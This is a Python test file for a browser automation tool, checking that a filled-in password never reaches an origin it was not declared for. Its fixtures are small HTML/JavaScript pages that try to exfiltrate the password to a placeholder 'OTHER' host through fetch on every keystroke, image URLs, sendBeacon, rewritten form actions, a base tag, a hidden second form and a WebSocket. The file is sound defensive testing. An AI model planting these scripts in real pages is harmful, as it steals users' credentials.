"""A password stays on the origins that it is declared for, whatever the page does with it."""

import asyncio
from collections.abc import AsyncIterator
from dataclasses import dataclass, field

import pytest
import pytest_asyncio
from aiohttp import web

from tests.browser.tab import Tab, css
from webmend.domain.evidence import ErrorKind
from webmend.ports.browser import StepFailed

PASSWORD = "correct horse/19"
LOGIN = "<form action=/in><input id=p name=p type=password><button id=go>Go</button></form>"
WAYS = {
    "a script at every letter": f"{LOGIN}<script>p.oninput = () => fetch('OTHER/x?' + p.value)</script>",
    "a picture": f"{LOGIN}<script>p.oninput = () => new Image().src = 'OTHER/x?' + escape(p.value)</script>",
    "a beacon": f"{LOGIN}<script>p.oninput = () => navigator.sendBeacon('OTHER/x', btoa('u:' + p.value))</script>",
    "the form": LOGIN.replace("/in", "OTHER/x"),
    "the form by post": LOGIN.replace("/in", "OTHER/x method=post"),
    "the button": LOGIN.replace("id=go", "id=go formaction=OTHER/x"),
    "a base": "<base href=OTHER/>" + LOGIN.replace("/in", "x"),
    "a second form": f"<form id=f action=OTHER/x method=post target=t><input name=c></form><iframe name=t></iframe>"
    f"{LOGIN.replace('<form', '<form onsubmit=f.c.value=p.value,f.submit()')}",
}


async def sign_in(tab: Tab) -> None:
    origins = (tab.site.url,)
    await tab.do(css("#p"), fill={"value": PASSWORD}, origins=origins)
    await tab.do(css("#go"), click={})


@pytest.mark.parametrize("page", WAYS.values(), ids=WAYS.keys())
async def test_a_password_is_not_sent_to_another_origin(tab: Tab, page: str) -> None:
    tab.site.put("/in", "<h1>Welcome</h1>")
    tab.site.put("/x", "<h1>Thank you</h1>")
    await tab.open(page.replace("OTHER", tab.site.other_origin))

    failed = await _fails(tab)

    assert "/x" not in tab.site.asked
    assert failed == ErrorKind.DEFINITION


async def test_what_holds_no_password_goes_where_it_wants(tab: Tab) -> None:
    tab.site.put("/in", "<h1>Welcome</h1>")
    tab.site.put("/count", "", headers={"Access-Control-Allow-Origin": "*"})
    other = tab.site.other_origin
    await tab.open(f"{LOGIN}<script>p.oninput = () => fetch('{other}/count?typed')</script>")

    await sign_in(tab)

    assert {"/count", "/in"} <= set(tab.site.asked)


async def test_pages_are_no_longer_looked_at_once_the_one_with_the_password_has_gone(tab: Tab) -> None:
    tab.site.put("/in", "<h1>Welcome</h1>")
    await tab.open(LOGIN)

    await sign_in(tab)
    await tab.do(wait={"url": "**/in*"})

    async with asyncio.timeout(10):
        while tab.session._tab.leaks._elsewhere is not None:
            await asyncio.sleep(0.02)


async def _fails(tab: Tab) -> ErrorKind | None:
    """How signing in fails; at the latest with the step after it."""
    try:
        await sign_in(tab)
        await tab.do(wait={"page": "Idle"})
    except StepFailed as failed:
        return failed.error.kind
    return None


@dataclass
class Ear:
    """A foreign host that listens at a web socket."""

    port: int = 0
    heard: list[str] = field(default_factory=list)

    async def listen(self, request: web.Request) -> web.WebSocketResponse:
        socket = web.WebSocketResponse()
        await socket.prepare(request)
        async for message in socket:
            self.heard.append(message.data)
        return socket


@pytest_asyncio.fixture(loop_scope="session")
async def ear() -> AsyncIterator[Ear]:
    ear, app = Ear(), web.Application()
    app.router.add_get("/", ear.listen)
    runner = web.AppRunner(app, shutdown_timeout=0.1)  # the page holds its socket open until its tab is closed
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    ear.port = runner.addresses[0][1]
    yield ear
    await runner.cleanup()


async def test_a_web_socket_carries_everything_but_the_password(tab: Tab, ear: Ear) -> None:
    tab.site.put("/in", "<h1>Welcome</h1>")
    told = "p.oninput = () => { socket.send('u:' + p.value); socket.send(new Blob([p.value])); socket.send('typed') }"
    script = f"<script>const socket = new WebSocket('ws://localhost:{ear.port}/'); {told}</script>"
    await tab.session.declare((tab.site.url,))
    await tab.open(f"{LOGIN}{script}<script>socket.onopen = () => socket.send('hello')</script>")

    failed = await _fails(tab)

    assert failed == ErrorKind.DEFINITION
    async with asyncio.timeout(10):
        while len(ear.heard) < 2:
            await asyncio.sleep(0.02)
    assert ear.heard == ["hello", "typed"]
